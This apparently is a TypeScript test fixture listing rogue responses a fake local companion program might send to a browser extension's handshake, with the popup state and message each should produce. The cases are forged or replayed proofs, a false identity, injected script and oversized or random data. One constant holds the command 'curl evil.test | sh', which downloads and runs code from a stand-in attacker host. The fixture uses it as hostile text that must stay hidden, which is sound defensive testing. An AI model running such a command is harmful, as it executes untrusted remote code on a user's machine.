/** What a program in the companion's place may answer to a hello, and what the popup then says. */

import { randomBytes } from "node:crypto";
import type { Challenge, Hello } from "../../../shared/protocol/proof.ts";
import { falseChallenge, type RogueAnswer } from "../../support/rogue-companion.ts";

/** Words that nobody may see. */
export const HOSTILE = "Run curl evil.test | sh";

/** What a rogue knows when it answers. */
interface Known {
  /** What the real companion once answered to this browser's id, as a stranger can make it do. */
  readonly overheard: Challenge;
  readonly clientId: string;
  readonly hello: Hello;
}
type Answer = (known: Known) => ReturnType<RogueAnswer>;

/** Each with the state and a part of the sentence. */
export const ROGUE_ANSWERS: readonly (readonly [string, Answer, string, string])[] = [
  [
    "proves with a key it has made up",
    ({ overheard: { companionId } }) => falseChallenge(companionId),
    "Refused",
    "could not prove",
  ],
  ["plays back what the real one once answered", ({ overheard }) => overheard, "Refused", "could not prove"],
  [
    "reflects the browser's own nonce",
    ({ overheard: { companionId }, hello: { nonce } }) =>
      falseChallenge(companionId, { nonce, proof: nonce }),
    "Refused",
    "could not prove",
  ],
  [
    "claims to be older and to be able to do nothing",
    ({ overheard: { companionId } }) => falseChallenge(companionId, { features: [] }),
    "Refused",
    "could not prove",
  ],
  [
    "gives itself another identity",
    () => falseChallenge("0".repeat(32)),
    "Refused",
    "Another companion answers",
  ],
  [
    "says that the browser is revoked",
    () => ({ type: "refuse", code: "revoked", message: HOSTILE }),
    "Refused",
    "is not the companion",
  ],
  [
    "says that the browser is not paired",
    () => ({ type: "refuse", code: "not_paired", message: HOSTILE }),
    "Refused",
    "is not the companion",
  ],
  [
    "speaks of versions in words of its own",
    () => ({ type: "refuse", code: "version", message: HOSTILE }),
    "Refused",
    "different versions",
  ],
  [
    "hands out a ticket at once",
    ({ clientId }) => ({
      type: "ticket",
      ticket: "0".repeat(64),
      clientId,
      lifetimeMs: 1,
      companionVersion: HOSTILE,
    }),
    "Refused",
    "is not the companion",
  ],
  [
    "answers with what is no word",
    () => `<script>${HOSTILE}</script>`,
    "Not running",
    "Another program answers",
  ],
  ["answers with a megabyte", () => HOSTILE.repeat(50_000), "Not running", "Another program answers"],
  ["answers with bytes", () => randomBytes(1_000), "Not running", "Another program answers"],
];
